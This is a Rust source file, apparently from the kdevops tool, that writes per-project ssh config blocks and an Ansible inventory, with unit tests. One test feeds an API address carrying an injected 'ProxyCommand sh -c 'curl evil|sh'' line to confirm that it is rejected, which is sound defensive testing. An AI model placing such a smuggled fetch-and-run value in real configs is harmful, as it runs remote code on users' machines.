//! The ssh client configuration kdevops expects, and the Ansible inventory.
//!
//! Per project, `~/.ssh/config_kdevops_<hash>` holds one block per node between
//! kdevops' markers (`# BEGIN host configuration for <host>` … `# END …`, Ansible
//! `blockinfile` style), and `~/.ssh/config` gets, at its top, a `# BEGIN Managed by
//! kdevops` block with `Include ~/.ssh/config_kdevops_*`, so `ssh kdevops-0` works from
//! anywhere.
//!
//! `~/.ssh/config` is the user's: text outside our markers is kept byte for byte (line
//! endings included), a BEGIN marker without its END makes us refuse rather than guess
//! where our block ends, and every rewrite goes through [`atomic_write`]. Addresses are
//! [`IpAddr`]s, never API text, so nothing the API says can add an ssh option.

use std::fs;
use std::net::IpAddr;
use std::path::Path;

use anyhow::{anyhow, bail, Context, Result};

use crate::atomic_write::{self, LineEnding};

const INCLUDE_MARK: &str = "Managed by kdevops";

/// One node as the ssh config sees it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HostEntry {
    pub name: String,
    pub ip: IpAddr,
    /// sshd's port: 22 on DataCrunch; the emulator's unprivileged nodes use others.
    pub port: u16,
    /// The host this node is reached through (a cluster's jump host: its workers have
    /// private addresses only); `None`: reached directly.
    pub jump: Option<Box<HostEntry>>,
}

impl HostEntry {
    /// The node `name` at the address the API reported, which must be an IP literal:
    /// anything else (a hostname, text with a newline and an ssh option) is refused
    /// before it reaches the ssh config or the inventory.
    pub fn from_api(name: &str, address: Option<&str>) -> Result<Self> {
        let Some(address) = address.filter(|a| !a.is_empty()) else {
            bail!("{name} has no IP address after apply");
        };
        let ip = address.parse::<IpAddr>().map_err(|_| {
            anyhow!(
                "node {name}: the API reported the address {address:?}, which is not an IP address; \
                 not writing it into the ssh config or the inventory"
            )
        })?;
        Ok(Self {
            name: name.to_owned(),
            ip,
            port: 22,
            jump: None,
        })
    }

    /// Gives every jump copy the port its host has in `hosts` now (the emulator tells
    /// the ports only once the nodes have booted).
    pub fn refresh_jumps(hosts: &mut [HostEntry]) {
        let ports: Vec<(String, u16)> = hosts.iter().map(|h| (h.name.clone(), h.port)).collect();
        for jump in hosts.iter_mut().filter_map(|h| h.jump.as_mut()) {
            if let Some((_, port)) = ports.iter().find(|(n, _)| *n == jump.name) {
                jump.port = *port;
            }
        }
    }

    /// This node, reached through `jump`.
    pub fn through(mut self, jump: &HostEntry) -> Self {
        self.jump = Some(Box::new(jump.clone()));
        self
    }
}

/// How the host blocks are written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HostOptions {
    pub user: String,
    pub identity_file: String,
    /// Disable host key checks (cloud nodes get new host keys every bringup).
    pub strict: bool,
    /// The project's own known_hosts file (bringup records each node's host keys in
    /// it); used unless `strict` turns host key checks off.
    pub known_hosts: String,
}

fn begin(mark: &str) -> String {
    format!("# BEGIN {mark}")
}

fn end(mark: &str) -> String {
    format!("# END {mark}")
}

fn host_mark(host: &str) -> String {
    format!("host configuration for {host}")
}

/// A BEGIN marker whose END never comes: where our block ends is unknown, so the lines
/// after it may be the user's.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnclosedBlock {
    /// 1-based line of the BEGIN marker.
    pub line: usize,
    pub mark: String,
}

impl UnclosedBlock {
    /// The error to show, naming the file.
    fn in_file(&self, path: &Path) -> anyhow::Error {
        anyhow!(
            "{} line {}: `{}` has no matching `{}` line, so where kdevops' block ends is unknown \
             and the file is left untouched; add the END line after the block (or delete the \
             BEGIN line), then run again",
            path.display(),
            self.line,
            begin(&self.mark),
            end(&self.mark)
        )
    }
}

/// The per-project file: one marked block per host, in the given order.
pub fn render_project_config(hosts: &[HostEntry], options: &HostOptions) -> String {
    let mut out = String::new();
    for host in hosts {
        let mark = host_mark(&host.name);
        out.push_str(&begin(&mark));
        out.push('\n');
        out.push_str(&format!("Host {} {}\n", host.name, host.ip));
        out.push_str(&format!("\tHostName {}\n", host.ip));
        out.push_str(&format!("\tUser {}\n", options.user));
        out.push_str(&format!("\tPort {}\n", host.port));
        out.push_str(&format!("\tIdentityFile {}\n", options.identity_file));
        if let Some(jump) = &host.jump {
            // The jump host's own block (same file) says how to reach it.
            out.push_str(&format!("\tProxyJump {}\n", jump.name));
        }
        if options.strict {
            for line in [
                "UserKnownHostsFile /dev/null",
                "StrictHostKeyChecking no",
                "PasswordAuthentication no",
                "IdentitiesOnly yes",
                "LogLevel FATAL",
            ] {
                out.push('\t');
                out.push_str(line);
                out.push('\n');
            }
        } else {
            // Addresses are reused between runs with new host keys: a per-project
            // file (removed by destroy) keeps them out of ~/.ssh/known_hosts.
            out.push_str(&format!("\tUserKnownHostsFile {}\n", options.known_hosts));
            out.push_str("\tStrictHostKeyChecking accept-new\n");
        }
        out.push_str(&end(&mark));
        out.push('\n');
    }
    out
}

/// `text` with the block between `mark`'s markers removed (markers included); every
/// other line kept exactly, its line ending included. A BEGIN with no END after it (or
/// with a second BEGIN first) is an error: the block's extent is not provable.
pub fn remove_block(text: &str, mark: &str) -> Result<String, UnclosedBlock> {
    let (b, e) = (begin(mark), end(mark));
    let mut out = String::with_capacity(text.len());
    let mut open_at: Option<usize> = None;
    for (index, line) in text.split_inclusive('\n').enumerate() {
        let bare = line.trim_end();
        match open_at {
            None if bare == b => open_at = Some(index + 1),
            None => out.push_str(line),
            Some(first) if bare == b => {
                return Err(UnclosedBlock {
                    line: first,
                    mark: mark.to_owned(),
                })
            }
            Some(_) if bare == e => open_at = None,
            Some(_) => {}
        }
    }
    match open_at {
        Some(line) => Err(UnclosedBlock {
            line,
            mark: mark.to_owned(),
        }),
        None => Ok(out),
    }
}

/// `text` with the Include block for `prefix*` at its top (replacing an older one), in
/// the file's line endings: ssh applies the first value it finds, so included hosts
/// must come before any catch-all `Host *` of the user's.
pub fn with_include_block(text: &str, prefix: &str) -> Result<String, UnclosedBlock> {
    let rest = remove_block(text, INCLUDE_MARK)?;
    let nl = LineEnding::of(text).as_str();
    Ok(format!(
        "{}{nl}Include {prefix}*{nl}{}{nl}{rest}",
        begin(INCLUDE_MARK),
        end(INCLUDE_MARK)
    ))
}

/// The main config's current text (empty when missing), refused when our block in it
/// is broken.
fn read_main(main: &Path) -> Result<String> {
    let text = atomic_write::read(&atomic_write::follow_links(main)?)?.unwrap_or_default();
    remove_block(&text, INCLUDE_MARK).map_err(|e| e.in_file(main))?;
    Ok(text)
}

/// Fails, naming the file and line, when `main` holds a broken kdevops block: what
/// [`install`] and [`uninstall`] would refuse, checked before anything is created.
pub fn check_main(main: &Path) -> Result<()> {
    read_main(main).map(drop)
}

/// Writes the per-project file and makes sure the main config includes it.
pub fn install(
    main: &Path,
    project_file: &Path,
    prefix: &str,
    hosts: &[HostEntry],
    options: &HostOptions,
) -> Result<()> {
    let current = read_main(main)?;
    let updated = with_include_block(&current, prefix).map_err(|e| e.in_file(main))?;
    atomic_write::write_generated(project_file, &render_project_config(hosts, options))?;
    if updated != current {
        atomic_write::write(main, &updated)?;
    }
    Ok(())
}

/// Removes the per-project file, and the Include block when no other project's file
/// (another file named `<prefix>*`) is left to include. A main config that held
/// nothing but our block (we created it) is removed rather than left empty, unless it
/// is a link (the user's dotfile setup).
pub fn uninstall(main: &Path, project_file: &Path, prefix: &Path) -> Result<()> {
    let current = read_main(main)?;
    match fs::remove_file(project_file) {
        Ok(()) => {}
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
        Err(e) => {
            return Err(e).with_context(|| format!("cannot remove {}", project_file.display()))
        }
    }
    let others_remain = match (prefix.parent(), prefix.file_name()) {
        (Some(dir), Some(stem)) => {
            let stem = stem.to_string_lossy();
            fs::read_dir(dir)
                .map(|entries| {
                    entries
                        .flatten()
                        .any(|e| e.file_name().to_string_lossy().starts_with(&*stem))
                })
                .unwrap_or(false)
        }
        _ => false,
    };
    if others_remain {
        return Ok(());
    }
    let updated = remove_block(&current, INCLUDE_MARK).map_err(|e| e.in_file(main))?;
    if updated == current {
        return Ok(());
    }
    let is_link = fs::symlink_metadata(main).is_ok_and(|m| m.file_type().is_symlink());
    if updated.is_empty() && !is_link {
        fs::remove_file(main).with_context(|| format!("cannot remove {}", main.display()))
    } else {
        atomic_write::write(main, &updated)
    }
}

/// The Ansible inventory: an `[all]` group of node names with their address, port
/// (when not 22), user, key and the system Python (interpreter discovery would pick
/// whatever root's login shell puts first, e.g. a pyenv shim), checking host keys against `known_hosts` (the
/// project's file), or not at all when `None` (KDEVOPS_SSH_CONFIG_UPDATE_STRICT).
pub fn render_inventory(
    hosts: &[HostEntry],
    user: &str,
    identity_file: &str,
    known_hosts: Option<&str>,
) -> String {
    // A host the others are reached through (a cluster's jump host) is no node to run
    // on: the inventory lists the nodes behind it.
    let is_jump = |h: &HostEntry| {
        hosts
            .iter()
            .any(|o| o.jump.as_ref().is_some_and(|j| j.name == h.name))
    };
    let hosts: Vec<&HostEntry> = hosts.iter().filter(|h| !is_jump(h)).collect();
    let mut out = String::from("[all]\n");
    for h in &hosts {
        out.push_str(&format!(
            "{} ansible_host={} ansible_user={user} ansible_ssh_private_key_file={identity_file} \
             ansible_python_interpreter=/usr/bin/python3",
            h.name, h.ip
        ));
        if h.port != 22 {
            out.push_str(&format!(" ansible_port={}", h.port));
        }
        // The ssh config may not apply (disabled, or another HOME): the inventory
        // carries its own host key options, and the way through a jump host.
        let host_keys = match known_hosts {
            Some(file) => format!("-o UserKnownHostsFile={file}"),
            None => "-o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no".to_owned(),
        };
        let proxy = match &h.jump {
            Some(j) => format!(
                " -o ProxyCommand=\"ssh -W %h:%p -q -i {identity_file} {host_keys} -p {} {user}@{}\"",
                j.port, j.ip
            ),
            None => String::new(),
        };
        out.push_str(&format!(" ansible_ssh_common_args='{host_keys}{proxy}'\n"));
    }
    out.push_str("\n[baseline]\n");
    for h in &hosts {
        out.push_str(&h.name);
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts() -> Vec<HostEntry> {
        vec![
            HostEntry {
                name: "kdevops-0".into(),
                ip: "127.0.0.10".parse().unwrap(),
                port: 22,
                jump: None,
            },
            HostEntry {
                name: "kdevops-1".into(),
                ip: "127.0.0.11".parse().unwrap(),
                port: 2201,
                jump: None,
            },
        ]
    }

    fn options(strict: bool) -> HostOptions {
        HostOptions {
            user: "root".into(),
            identity_file: "/h/.ssh/kdevops_terraform_abcd1234".into(),
            strict,
            known_hosts: "/h/.ssh/known_hosts_kdevops_abcd1234".into(),
        }
    }

    #[test]
    fn renders_kdevops_blocks() {
        let text = render_project_config(&hosts(), &options(true));
        let expected_first = "# BEGIN host configuration for kdevops-0\nHost kdevops-0 127.0.0.10\n\tHostName 127.0.0.10\n\
                              \tUser root\n\tPort 22\n\tIdentityFile /h/.ssh/kdevops_terraform_abcd1234\n\
                              \tUserKnownHostsFile /dev/null\n\tStrictHostKeyChecking no\n\tPasswordAuthentication no\n\
                              \tIdentitiesOnly yes\n\tLogLevel FATAL\n# END host configuration for kdevops-0\n";
        assert!(text.starts_with(expected_first), "{text}");
        assert!(text.contains("# END host configuration for kdevops-1\n"));
    }

    /// Without strict mode, host keys are checked against the project's own file, never
    /// ~/.ssh/known_hosts; each node gets its own port.
    #[test]
    fn checks_host_keys_against_the_project_known_hosts_with_each_nodes_port() {
        let text = render_project_config(&hosts(), &options(false));
        let expected_second = "Host kdevops-1 127.0.0.11\n\tHostName 127.0.0.11\n\tUser root\n\tPort 2201\n\
                               \tIdentityFile /h/.ssh/kdevops_terraform_abcd1234\n\
                               \tUserKnownHostsFile /h/.ssh/known_hosts_kdevops_abcd1234\n\
                               \tStrictHostKeyChecking accept-new\n# END host configuration for kdevops-1\n";
        assert!(text.ends_with(expected_second), "{text}");
        assert!(text.contains("\tPort 22\n"), "{text}");
    }

    #[test]
    fn include_block_goes_first_once_and_leaves_user_text() {
        let user = "Host *\n\tServerAliveInterval 30\n";
        let once = with_include_block(user, "~/.ssh/config_kdevops_").unwrap();
        assert!(once.starts_with("# BEGIN Managed by kdevops\nInclude ~/.ssh/config_kdevops_*\n# END Managed by kdevops\n"));
        assert!(once.ends_with(user));
        assert_eq!(
            with_include_block(&once, "~/.ssh/config_kdevops_").unwrap(),
            once
        );
        assert_eq!(remove_block(&once, INCLUDE_MARK).unwrap(), user);
    }

    #[test]
    fn install_and_uninstall_files() {
        let dir = tempfile::tempdir().unwrap();
        let main = dir.path().join("config");
        fs::write(&main, "Host mine\n").unwrap();
        let project = dir.path().join("config_kdevops_abcd1234");
        install(
            &main,
            &project,
            "~/.ssh/config_kdevops_",
            &hosts(),
            &options(true),
        )
        .unwrap();
        assert!(fs::read_to_string(&project)
            .unwrap()
            .contains("Host kdevops-1 127.0.0.11"));
        assert!(fs::read_to_string(&main)
            .unwrap()
            .contains("Include ~/.ssh/config_kdevops_*"));

        // Another project's file keeps the Include in place.
        let other = dir.path().join("config_kdevops_ffff0000");
        fs::write(&other, "").unwrap();
        uninstall(&main, &project, &dir.path().join("config_kdevops_")).unwrap();
        assert!(!project.exists());
        assert!(fs::read_to_string(&main).unwrap().contains("Include"));
        fs::remove_file(&other).unwrap();
        uninstall(&main, &project, &dir.path().join("config_kdevops_")).unwrap();
        assert_eq!(fs::read_to_string(&main).unwrap(), "Host mine\n");
    }

    #[test]
    fn a_begin_without_end_is_refused_and_the_file_left_alone() {
        let dir = tempfile::tempdir().unwrap();
        let main = dir.path().join("config");
        // Our BEGIN, then the user's hosts: the END was deleted by hand.
        let broken = "Host first\n# BEGIN Managed by kdevops\nInclude ~/.ssh/config_kdevops_*\n\
                      Host work\n\tUser me\n";
        fs::write(&main, broken).unwrap();
        let project = dir.path().join("config_kdevops_abcd1234");
        let prefix = dir.path().join("config_kdevops_");
        for err in [
            install(
                &main,
                &project,
                "~/.ssh/config_kdevops_",
                &hosts(),
                &options(true),
            ),
            uninstall(&main, &project, &prefix),
            check_main(&main),
        ] {
            let err = format!("{:#}", err.unwrap_err());
            assert!(
                err.contains(&format!("{} line 2:", main.display()))
                    && err.contains("# END Managed by kdevops"),
                "{err}"
            );
        }
        assert_eq!(fs::read_to_string(&main).unwrap(), broken);
        assert!(!project.exists(), "nothing written before the refusal");

        // A second BEGIN before any END: the first one is the unclosed one.
        let twice =
            "# BEGIN Managed by kdevops\nx\n# BEGIN Managed by kdevops\n# END Managed by kdevops\n";
        assert_eq!(remove_block(twice, INCLUDE_MARK).unwrap_err().line, 1);
        // An END alone is the user's text.
        assert_eq!(
            remove_block("# END Managed by kdevops\n", INCLUDE_MARK).unwrap(),
            "# END Managed by kdevops\n"
        );
    }

    #[test]
    fn crlf_and_a_missing_final_newline_are_kept() {
        let user = "Host a\r\n\tUser me\r\nHost b";
        let with = with_include_block(user, "~/.ssh/config_kdevops_").unwrap();
        assert_eq!(
            with,
            format!("# BEGIN Managed by kdevops\r\nInclude ~/.ssh/config_kdevops_*\r\n# END Managed by kdevops\r\n{user}")
        );
        assert_eq!(remove_block(&with, INCLUDE_MARK).unwrap(), user);
    }

    #[test]
    fn a_linked_main_config_is_edited_at_its_target() {
        let dir = tempfile::tempdir().unwrap();
        let dotfiles = dir.path().join("dotfiles/ssh_config");
        fs::create_dir_all(dotfiles.parent().unwrap()).unwrap();
        fs::write(&dotfiles, "Host mine\n").unwrap();
        let main = dir.path().join("config");
        std::os::unix::fs::symlink(&dotfiles, &main).unwrap();
        let project = dir.path().join("config_kdevops_abcd1234");
        let prefix = dir.path().join("config_kdevops_");
        install(
            &main,
            &project,
            "~/.ssh/config_kdevops_",
            &hosts(),
            &options(true),
        )
        .unwrap();
        assert!(fs::symlink_metadata(&main)
            .unwrap()
            .file_type()
            .is_symlink());
        assert!(fs::read_to_string(&dotfiles).unwrap().contains("Include"));
        uninstall(&main, &project, &prefix).unwrap();
        assert!(fs::symlink_metadata(&main)
            .unwrap()
            .file_type()
            .is_symlink());
        assert_eq!(fs::read_to_string(&dotfiles).unwrap(), "Host mine\n");
    }

    #[test]
    fn a_main_config_we_created_goes_with_our_block() {
        let dir = tempfile::tempdir().unwrap();
        let main = dir.path().join("config");
        let project = dir.path().join("config_kdevops_abcd1234");
        install(
            &main,
            &project,
            "~/.ssh/config_kdevops_",
            &hosts(),
            &options(true),
        )
        .unwrap();
        uninstall(&main, &project, &dir.path().join("config_kdevops_")).unwrap();
        assert!(!main.exists(), "no empty ~/.ssh/config left behind");
    }

    #[test]
    fn only_ip_literals_from_the_api_are_written() {
        let ok = HostEntry::from_api("kdevops-0", Some("2001:db8::1")).unwrap();
        assert_eq!(ok.ip.to_string(), "2001:db8::1");
        for bad in [
            "1.2.3.4\n  ProxyCommand sh -c 'curl evil|sh'",
            "1.2.3.4 ProxyCommand x",
            "evil.example.com",
            " 1.2.3.4",
        ] {
            let err = HostEntry::from_api("kdevops-1", Some(bad))
                .unwrap_err()
                .to_string();
            assert!(
                err.contains("node kdevops-1") && err.contains(&format!("{bad:?}")),
                "{err}"
            );
        }
        let err = HostEntry::from_api("kdevops-2", None)
            .unwrap_err()
            .to_string();
        assert!(err.contains("kdevops-2 has no IP address"), "{err}");
    }

    #[test]
    fn inventory_lists_nodes() {
        let inv = render_inventory(&hosts(), "root", "/k", Some("/kh"));
        assert!(inv.starts_with(
            "[all]\nkdevops-0 ansible_host=127.0.0.10 ansible_user=root ansible_ssh_private_key_file=/k \
             ansible_python_interpreter=/usr/bin/python3 ansible_ssh_common_args='-o UserKnownHostsFile=/kh'\n\
             kdevops-1 ansible_host=127.0.0.11 ansible_user=root ansible_ssh_private_key_file=/k \
             ansible_python_interpreter=/usr/bin/python3 ansible_port=2201 "
        ), "{inv}");
        assert!(inv.contains("[baseline]\nkdevops-0\nkdevops-1\n"));
    }

    /// A cluster worker is reached through its jump host: `ProxyJump` to the jump
    /// host's block in the ssh config, a ProxyCommand with the jump host's address in
    /// the inventory (which must work without the ssh config).
    #[test]
    fn a_worker_goes_through_its_jump_host() {
        let [jump, worker] = hosts().try_into().unwrap();
        let worker = worker.through(&jump);
        let config = render_project_config(&[jump.clone(), worker.clone()], &options(false));
        assert!(
            config.contains("Port 2201\n\tIdentityFile /h/.ssh/kdevops_terraform_abcd1234\n\tProxyJump kdevops-0\n"),
            "{config}"
        );
        assert_eq!(config.matches("ProxyJump").count(), 1, "{config}");
        // The inventory lists the worker, not the jump host.
        let inv = render_inventory(&[jump, worker], "root", "/k", Some("/kh"));
        assert!(inv.starts_with("[all]\nkdevops-1 "), "{inv}");
        assert!(inv.ends_with("[baseline]\nkdevops-1\n"), "{inv}");
        assert!(
            inv.contains(
                "ansible_ssh_common_args='-o UserKnownHostsFile=/kh -o ProxyCommand=\"ssh -W %h:%p -q -i /k \
                 -o UserKnownHostsFile=/kh -p 22 root@127.0.0.10\"'\n"
            ),
            "{inv}"
        );
    }
}
